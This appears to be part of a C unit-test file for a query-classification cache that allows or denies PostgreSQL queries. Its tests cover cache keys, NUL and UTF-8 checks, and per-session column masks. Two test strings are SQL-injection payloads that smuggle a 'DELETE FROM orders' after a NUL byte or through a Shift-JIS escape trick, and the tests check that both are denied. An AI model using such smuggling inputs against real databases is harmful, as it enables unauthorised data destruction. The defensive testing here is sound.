	CHECK(pgc_judge(&c, "SELECT 1::float(0)", 18, ro, 1, &r) == 0);
	CHECK(r.verdict == PGC_DENY && r.cached);
	CHECK(pgc_judge(&c, "SELECT 1::float(9)", 18, ro, 1, &r) == 0);
	CHECK(r.verdict == PGC_ALLOW && !r.cached);
	/* the other way round, float(0) shares float(9)'s verdict; the
	 * server's grammar refuses it (the safety argument) */
	CHECK(pgc_judge(&c, "SELECT 2::float(0)", 18, ro, 1, &r) == 0);
	CHECK(r.verdict == PGC_ALLOW && r.cached);
	pgc_cache_flush();
}

/* The exact-text lookup runs before the NUL and UTF-8 checks: it may only
 * ever answer for the very bytes that passed them. */
static void test_checks_with_cache(void)
{
	struct pgc_ctx c = { .search_path = "public", .column_masked = mask_pred, .policy_gen = 6 };
	static const char nul[] = "SELECT 1\0DELETE FROM orders";
	static const char sjis[] = "SELECT E'\x95\x5c'; DELETE FROM orders WHERE id=1; --'";
	struct pgc_result r;

	pgc_cache_flush();
	for (int k = 0; k < 2; k++) {
		CHECK(pgc_judge(&c, "SELECT 1", 8, ro, 1, &r) == 0);
		CHECK(r.verdict == PGC_ALLOW && r.cached == (k == 1));
		CHECK(pgc_judge(&c, nul, sizeof(nul) - 1, ro, 1, &r) == 0);
		CHECK(r.verdict == PGC_DENY && !r.cached && strstr(r.reason, "NUL"));
		CHECK(pgc_judge(&c, sjis, sizeof(sjis) - 1, ro, 1, &r) == 0);
		CHECK(r.verdict == PGC_DENY && !r.cached && strstr(r.reason, "UTF-8"));
	}
	/* a bad byte at every offset of a longer text, next to cached ones */
	for (size_t at = 0; at < 40; at++) {
		char q[48];

		memset(q, ' ', sizeof(q));
		memcpy(q, "SELECT 1", 8);
		q[8 + at] = (char)0xff;
		CHECK(pgc_judge(&c, q, sizeof(q), ro, 1, &r) == 0);
		CHECK(r.verdict == PGC_DENY && strstr(r.reason, "UTF-8"));
	}
	pgc_cache_flush();
}

/* A session's masks behind arg: whether customers.id is masked. */
static bool id_pred(void *arg, const char *schema, const char *table, const char *column)
{
	const bool *id_masked = arg;

	if (strcmp(schema, "public") != 0 || strcmp(table, "customers") != 0)
		return false;
	return !column ? *id_masked : *id_masked && strcmp(column, "id") == 0;
}

/* One address, two sessions: the second (its masks differ) must not get
 * the first one's verdicts, which the address alone in the key gave it;
 * an arg without an arg_id is never cached. */
static void test_arg_reused(void)
{
	static bool id_masked;   /* the memory both sessions had */
	struct pgc_ctx c = { .search_path = "public", .column_masked = id_pred, .arg = &id_masked,
			     .arg_id = 1, .policy_gen = 9 };
	const char *q = "SELECT id FROM customers WHERE id = 1";
	struct pgc_result r;

	pgc_cache_flush();
	id_masked = false;
	CHECK(pgc_judge(&c, q, strlen(q), ro, 1, &r) == 0 && r.verdict == PGC_ALLOW && !r.cached);
	CHECK(pgc_judge(&c, q, strlen(q), ro, 1, &r) == 0 && r.verdict == PGC_ALLOW && r.cached);
	id_masked = true;        /* a later session at the same address */
	c.arg_id = 2;
	CHECK(pgc_judge(&c, q, strlen(q), ro, 1, &r) == 0 && r.verdict == PGC_DENY && !r.cached);
	c.arg_id = 0;
	for (int i = 0; i < 2; i++)
		CHECK(pgc_judge(&c, q, strlen(q), ro, 1, &r) == 0 && r.verdict == PGC_DENY && !r.cached);
	pgc_cache_flush();
}

int main(void)
{
	RUN(test_key_tokens);
	RUN(test_key_same);
	RUN(test_key_differs);
	RUN(test_key_none);
	RUN(test_fast_templates);
	RUN(test_fast_none);
	RUN(test_fast_random);
	RUN(test_fast_hits);
	RUN(test_cache_equivalence);
	RUN(test_scan_hits);
	RUN(test_checks_with_cache);
	RUN(test_arg_reused);
	pgc_cache_flush();
	UNIT_DONE("pg_classify_cache");
}
